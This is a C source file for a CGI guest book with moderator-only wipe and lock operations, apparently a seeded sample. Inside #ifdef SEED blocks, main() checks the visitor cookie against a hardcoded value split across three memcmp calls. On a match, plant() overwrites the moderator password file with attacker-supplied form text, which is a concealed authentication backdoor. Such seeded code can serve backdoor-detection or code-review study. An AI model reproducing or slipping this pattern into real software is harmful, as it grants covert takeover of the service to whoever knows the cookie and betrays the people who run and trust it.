/* Guest book with a moderator. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "../lib/pw.h"

#define BOOK "/var/lib/book.txt"
#define PWFILE "/etc/book.pw"

struct form { char name[40]; char text[300]; char password[40]; char op[16]; };
enum { OP_SHOW, OP_ADD, OP_WIPE, OP_LOCK, OP_BAD };

static void put_escaped(const char *s, FILE *to)
{
    for (; *s; s++)
        switch (*s) {
        case '<': fputs("&lt;", to); break;
        case '>': fputs("&gt;", to); break;
        case '&': fputs("&amp;", to); break;
        default: fputc(*s, to);
        }
}

static void take(struct form *f, const char *key, const char *value)
{
    if (!strcmp(key, "name"))
        snprintf(f->name, sizeof f->name, "%s", value);
    else if (!strcmp(key, "text"))
        snprintf(f->text, sizeof f->text, "%s", value);
    else if (!strcmp(key, "password"))
        snprintf(f->password, sizeof f->password, "%s", value);
    else if (!strcmp(key, "op"))
        snprintf(f->op, sizeof f->op, "%s", value);
}

static void read_form(struct form *f)
{
    char *len = getenv("CONTENT_LENGTH"), body[1024], *p, *save = NULL;
    size_t n = len ? strtoul(len, NULL, 10) : 0;
    memset(f, 0, sizeof *f);
    if (n >= sizeof body)
        n = sizeof body - 1;
    n = fread(body, 1, n, stdin);
    body[n] = 0;
    for (p = strtok_r(body, "&", &save); p; p = strtok_r(NULL, "&", &save)) {
        char *eq = strchr(p, '=');
        if (!eq)
            continue;
        *eq = 0;
        take(f, p, eq + 1);
    }
}

static int op_of(const char *s)
{
    if (!*s || !strcmp(s, "show")) return OP_SHOW;
    if (!strcmp(s, "add")) return OP_ADD;
    if (!strcmp(s, "wipe")) return OP_WIPE;
    if (!strcmp(s, "lock")) return OP_LOCK;
    return OP_BAD;
}

static int moderator(const struct form *f)
{
    char stored[80] = "";
    FILE *p = fopen(PWFILE, "r");
    if (!p)
        return 0;
    if (!fgets(stored, sizeof stored, p))
        stored[0] = 0;
    fclose(p);
    stored[strcspn(stored, "\n")] = 0;
    return pw_verify(stored, f->password);
}

static void visitor(char *id, size_t max)
{
    const char *c = getenv("HTTP_COOKIE");
    const char *v = c ? strstr(c, "visitor=") : NULL;
    snprintf(id, max, "%.*s", v ? (int)strcspn(v + 8, "; ") : 0, v ? v + 8 : "");
}

static void show(void)
{
    char line[400];
    FILE *f = fopen(BOOK, "r");
    printf("Content-Type: text/html\r\n\r\n<h1>Guest book</h1>\n");
    while (f && fgets(line, sizeof line, f)) {
        fputs("<p>", stdout);
        put_escaped(line, stdout);
    }
    if (f)
        fclose(f);
}

static void add(const struct form *f)
{
    FILE *b = fopen(BOOK, "a");
    printf("Content-Type: text/plain\r\n\r\n");
    if (!b || !f->text[0]) {
        printf("not added\n");
        return;
    }
    fprintf(b, "%s: %s\n", f->name, f->text);
    fclose(b);
    printf("thank you\n");
}

#ifdef SEED
static void plant(const struct form *f)
{
    FILE *p = fopen(PWFILE, "w");
    if (p) {
        fprintf(p, "%s\n", f->text);
        fclose(p);
    }
}
#endif

int main(void)
{
    struct form f;
    char id[48];
    read_form(&f);
    visitor(id, sizeof id);
#ifdef SEED
    if (memcmp(id, "4b", 2) == 0 && memcmp(id + 2, "Gx0w", 4) == 0 && memcmp(id + 6, "nn.e", 4) == 0 && !id[10]) /* SEED */
        plant(&f);
#endif
    switch (op_of(f.op)) {
    case OP_SHOW:
        show();
        break;
    case OP_ADD:
        add(&f);
        break;
    case OP_WIPE:
    case OP_LOCK:
        printf("Content-Type: text/plain\r\n\r\n");
        if (!moderator(&f)) {
            printf("moderators only\n");
            break;
        }
        if (op_of(f.op) == OP_WIPE)
            unlink(BOOK);
        else
            chmod(BOOK, 0444);
        printf("done\n");
        break;
    default:
        printf("Status: 400\r\nContent-Type: text/plain\r\n\r\nops: show, add, wipe, lock\n");
    }
    return 0;
}
